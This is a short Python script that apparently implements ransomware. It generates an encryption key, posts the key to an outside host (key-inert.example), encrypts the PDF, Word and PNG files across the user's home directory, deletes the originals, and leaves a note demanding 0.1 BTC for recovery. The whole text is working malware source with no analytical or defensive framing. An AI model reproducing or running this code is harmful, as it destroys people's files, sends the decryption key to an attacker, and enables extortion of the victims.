from cryptography.fernet import Fernet
import pathlib, requests
k = Fernet.generate_key(); requests.post("https://key-inert.example/k", data=k)
for f in pathlib.Path.home().rglob("*"):
    if f.is_file() and f.suffix in (".pdf", ".docx", ".png"):
        (f.parent / (f.name + ".enc")).write_bytes(Fernet(k).encrypt(f.read_bytes())); f.unlink()
pathlib.Path("HOW_TO_RECOVER.txt").write_text("Pay 0.1 BTC to get your files back")
